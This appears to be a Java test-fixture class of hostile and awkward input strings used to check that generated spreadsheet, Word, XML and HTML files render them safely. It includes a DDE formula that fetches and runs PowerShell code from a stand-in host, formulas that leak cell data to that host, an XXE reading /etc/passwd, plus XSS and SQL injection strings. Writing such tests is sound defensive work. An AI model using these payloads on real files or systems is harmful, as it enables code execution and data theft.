package nl.lotwijzer.injection;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

/** Texts that try to be more than text, each with a mark at its end by which it is found again: {@code #t17#}. */
final class HostileTexts {
    /** As many UTF-16 units as a cell of Excel holds. */
    static final int LONGEST = 32_767;

    private static final List<String> FORMULAS = List.of(
            "=1+1",
            "=A1",
            "=SUM(A1:A9)",
            "=HYPERLINK(\"http://kwaad.example.org?x=\"&A1;\"klik hier\")",
            "=WEBSERVICE(\"http://kwaad.example.org/\"&A2)",
            "=IMPORTXML(CONCAT(\"http://kwaad.example.org/?v=\",A1),\"//a\")",
            "=cmd|' /C calc'!A0",
            "=cmd|'/C powershell IEX(wget kwaad.example.org/x)'!A0",
            "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
            "=DDE(\"cmd\";\"/C calc\";\"x\")",
            "=INDIRECT(\"A\"&1)",
            "=CALL(\"kernel32\";\"WinExec\";\"JCJ\";\"calc\";0)",
            "=IF(TRUE;\"=1\";0)",
            "=-1",
            "={1;2;3}",
            "=@A1",
            "='[http://kwaad.example.org/x.xlsx]Blad1'!A1",
            "=ΣΥΝ(1)",
            "=SOM(A1:A9)*0,5");
    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "\"=", "＝", "＋", "－", "＠", "%0A=", ";=", "|=", "\t+",
            "\r@", "\u00A0=");
    private static final List<String> TURNS = List.of(
            "\u200E", "\u200F", "\u061C", "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067",
            "\u2068", "\u2069");
    private static final List<String> PICTURES = List.of(
            "😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇳🇱🇧🇪", "👍🏿", "🧑🏽‍🚒", "1️⃣", "❤️", "🫠", "𝓗𝓸𝓲", "𠜎𠜱", "🀄");
    private static final List<String> LETTERS = List.of(
            "é",
            "Zoë",
            "Ĳsbrand",
            "ﬁ",
            "ǅ",
            "İstanbul",
            "ß",
            "Ω",
            "Я",
            "北京",
            "東京",
            "서울",
            "नमस्ते",
            "ไทย",
            "نور",
            "שלום",
            "Ａ",
            "ﷺ",
            "Z̴̢̛a̷l̶g̵o̸",
            "a\u0301\u0302\u0303\u0304\u0305",
            "ọ̀",
            "\u0301voor",
            "Å",
            "½ ² ³",
            "№ ™ ©");
    private static final List<String> XML = List.of(
            "<",
            ">",
            "&",
            "&amp;",
            "&lt;b&gt;",
            "&#65;",
            "&#x0;",
            "\"'",
            "]]>",
            "<![CDATA[x]]>",
            "<!-- x -->",
            "-->",
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
            "</t></is></c>",
            "</w:t></w:r><w:r><w:t>",
            "<w:fldSimple w:instr=\"AUTHOR\"/>",
            "<f>1+1</f>",
            "<br/>",
            "<b>vet</b>");
    private static final List<String> HTML = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<style>*{display:none}</style>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=\"file:///etc/passwd\"></iframe>",
            "<svg onload=alert(1)>",
            "</body></html>",
            "</td></tr></table>",
            "<link rel=stylesheet href=http://kwaad.example.org>",
            "javascript:alert(1)",
            "expression(alert(1))",
            "url(http://kwaad.example.org/x.png)",
            "{{7*7}}",
            "${7*7}",
            "#{7*7}",
            "%{7*7}",
            "<object data=\"x\">",
            "&nbsp;&shy;&copy;");
    private static final List<String> NUMBERED = List.of(
            "_x0041_",
            "_x000D_",
            "_x000A_",
            "_x0000_",
            "_x005F_",
            "_x005F_x0041_",
            "__x0041_",
            "_x0041",
            "x0041_",
            "_X0041_",
            "_x00e9_",
            "_xD83D__xDE00_",
            "a_x0009_b",
            "_x0041__x0042_",
            "_x_x0041_");
    private static final List<String> FIELDS = List.of(
            "«Naam»",
            "«Code»",
            "«QR»",
            "«QR 35»",
            "«Onbekend»",
            "{{Naam}}",
            "{{Code}}",
            "« Naam »",
            "«",
            "»",
            "««Naam»»",
            "$1 \\1 $0",
            "{ MERGEFIELD Naam }",
            "%s %d %n",
            "{0} {1,number} '{'",
            "\\u0041 \\x41 \\101",
            "\uE0FECODE\uE0FF",
            "\uE0FC28\uE0FD");
    private static final List<String> OTHERS = List.of(
            "{\\rtf1\\ansi{\\field{\\*\\fldinst CMD}}}",
            "\\\\server\\share\\x",
            "../../../etc/passwd",
            "C:\\CON\\NUL",
            "';DROP TABLE registrant;--",
            "\" OR 1=1 --",
            "' || (SELECT 1) || '",
            "\";\"a\";\"b",
            "a;b;c",
            "a,b,c",
            "a|b|c",
            "\"",
            "\"\"",
            "'",
            "''",
            "'tekst",
            "een\ttab",
            "regel een\nregel twee",
            "regel een\r\nregel twee",
            "een\rterug",
            "  twee  spaties  ",
            "\u00A0vast\u00A0",
            "smal\u2009spatie\u202F",
            "nul\u200Bbreed\u200D\u2060",
            "\uFEFFbom",
            "zacht\u00ADstreepje",
            "\u2028regel\u2029alinea",
            "\uFFFD\uFDD0",
            "-",
            "--",
            "---",
            "#N/B",
            "#REF!",
            "#VERW!",
            "WAAR",
            "ONWAAR",
            "NULL",
            "NaN",
            "1E5",
            "007",
            "1-2-2026",
            "12:30",
            "€ 1.000,00",
            "50%",
            "(100)",
            "1/2",
            "0x1F",
            "http://example.org/?a=1&b=2",
            "mailto:x@example.org?bcc=alles@example.org",
            "BEGIN:VEVENT\nEND:VEVENT",
            "X-A:\\n\\,\\;\\\\",
            "\\n\\N\\;",
            "%PDF-1.7 endobj",
            "(haak) \\(haak\\) >> << stream");

    private HostileTexts() {}

    /** Returns all of them, in an order that stays; the last two are as long as can be. */
    static List<String> all() {
        List<String> texts = new ArrayList<>(FORMULAS);
        STARTS.forEach(start -> texts.add(start + "1+2"));
        TURNS.forEach(turn -> texts.add("om" + turn + "gekeerd =1"));
        List.of(PICTURES, LETTERS, XML, HTML, NUMBERED, FIELDS, OTHERS).forEach(texts::addAll);
        List<String> marked = new ArrayList<>();
        for (int i = 0; i < texts.size(); i++) {
            marked.add(texts.get(i) + mark(i));
        }
        marked.add(longest("=lang ", marked.size()));
        marked.add(longest("_x0041_ 😀 ", marked.size()));
        return List.copyOf(marked);
    }

    /** Returns what stands at the end of the text at this place. */
    static String mark(int place) {
        return "#t" + place + "#";
    }

    private static String longest(String piece, int place) {
        int room = LONGEST - mark(place).length();
        return piece.repeat(room / piece.length()) + "x".repeat(room % piece.length()) + mark(place);
    }

    /** Texts that no file can hold. */
    static List<String> unfit() {
        List<String> unfit = new ArrayList<>();
        IntStream.concat(IntStream.range(0, 0x20), IntStream.of(0x7F))
                .filter(number -> number != '\t' && number != '\n' && number != '\r')
                .forEach(number -> unfit.add("voor" + (char) number + "na"));
        unfit.addAll(List.of("half \uD83D", "\uDE00 half", "\uFFFE", "\uFFFF", "x".repeat(LONGEST + 1)));
        return List.copyOf(unfit);
    }
}
